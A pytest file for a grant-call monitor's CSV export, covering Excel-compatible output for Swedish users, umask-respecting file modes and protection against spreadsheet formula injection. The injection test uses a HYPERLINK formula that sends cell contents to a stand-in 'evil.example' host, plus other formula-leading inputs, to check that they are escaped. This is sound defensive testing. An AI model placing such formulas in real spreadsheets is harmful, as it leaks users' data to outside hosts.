"""Exports that open in Excel set to Swedish, written with the user's umask."""

from __future__ import annotations

import csv
import io
import os
import shutil
import stat
from pathlib import Path

import pytest

from helpers.portal_emulator import portal_config
from monitor.cli import cli
from monitor.cli.output import write_atomically, write_export_excel_csv
from monitor.store.queries import EXPORT_FIELDS, LIST_FIELDS

ROOT = Path(__file__).resolve().parent.parent


@pytest.fixture
def stored(runner, write_config, live_portal, tmp_path, snapshot_day):
    shutil.copytree(ROOT / "rules", tmp_path / "rules")
    path = write_config(portal_config(live_portal.base_url))
    assert runner.invoke(cli, ["--config", str(path), "run", "--no-digest"]).exit_code == 0
    return path


@pytest.fixture
def umask():
    """Set the process's umask for one test, and set it back."""
    saved = os.umask(0o022)
    yield lambda mask: os.umask(mask)
    os.umask(saved)


def test_the_excel_csv_has_a_bom_semicolons_and_every_column(runner, stored, tmp_path):
    out = tmp_path / "calls.csv"
    args = ["--config", str(stored), "export", "--format", "csv", "--excel", "--output", str(out)]
    result = runner.invoke(cli, args)
    assert result.exit_code == 0, result.output
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads å, ä, ö as UTF-8
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[0] == list(EXPORT_FIELDS)
    assert len(rows) == 342 and all(len(row) == len(EXPORT_FIELDS) for row in rows)
    scores = [row[EXPORT_FIELDS.index("score")] for row in rows[1:]]
    assert any("," in s for s in scores) and not any("." in s for s in scores)  # 0,73


def test_swedish_letters_survive_the_excel_csv():
    row = {field: None for field in EXPORT_FIELDS} | {name: [] for name in LIST_FIELDS}
    row |= {"title": "Stöd till äldreomsorg i Västerås", "areas": ["välfärd", "hälsa"]}
    out = io.StringIO(newline="")
    assert write_export_excel_csv([row], out) == 1
    text = out.getvalue().encode("utf-8").decode("utf-8-sig")
    (header, values) = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert dict(zip(header, values, strict=True))["title"] == "Stöd till äldreomsorg i Västerås"
    assert dict(zip(header, values, strict=True))["areas"] == "välfärd; hälsa"


def test_excel_is_for_csv_only(runner, stored):
    result = runner.invoke(cli, ["--config", str(stored), "export", "--excel"])
    assert result.exit_code == 1 and "--excel is for --format csv" in result.output


def test_files_are_written_with_the_users_umask(tmp_path, umask):
    umask(0o022)
    path = tmp_path / "export.json"
    write_atomically(path, lambda out: out.write("[]"))
    assert stat.S_IMODE(path.stat().st_mode) == 0o644
    umask(0o027)
    other = tmp_path / "other.json"
    write_atomically(other, lambda out: out.write("[]"))
    assert stat.S_IMODE(other.stat().st_mode) == 0o640
    path.chmod(0o600)  # a file replaced keeps the mode its owner gave it
    write_atomically(path, lambda out: out.write("[1]"))
    assert stat.S_IMODE(path.stat().st_mode) == 0o600 and path.read_text() == "[1]"


@pytest.mark.parametrize("excel", [False, True], ids=["csv", "excel-csv"])
def test_no_scraped_text_reaches_a_spreadsheet_as_a_formula(runner, write_config, tmp_path, excel):
    from helpers.stored_calls import add_calls

    config = write_config('[settings]\ndatabase = "monitor.db"\n')
    shutil.copytree(ROOT / "rules", tmp_path / "rules")
    titles = [
        '=HYPERLINK("https://evil.example/?"&A1,"Klicka")',
        "+46 kommuner söker",
        "-1+1 climate",
        "@SUM(A1:A9) adaptation",
        "\tTab first",
        "Climate adaptation in small towns",
    ]
    add_calls(config, titles)
    out = tmp_path / "calls.csv"
    args = ["--config", str(config), "export", "--format", "csv", "--output", str(out)]
    result = runner.invoke(cli, args + (["--excel"] if excel else []))
    assert result.exit_code == 0, result.output
    text = out.read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";" if excel else ","))
    shown = {row[rows[0].index("title")] for row in rows[1:]}
    assert shown == {
        "'" + t if t[0] in "=+-@\t" else t for t in titles
    }  # the text kept, never a formula
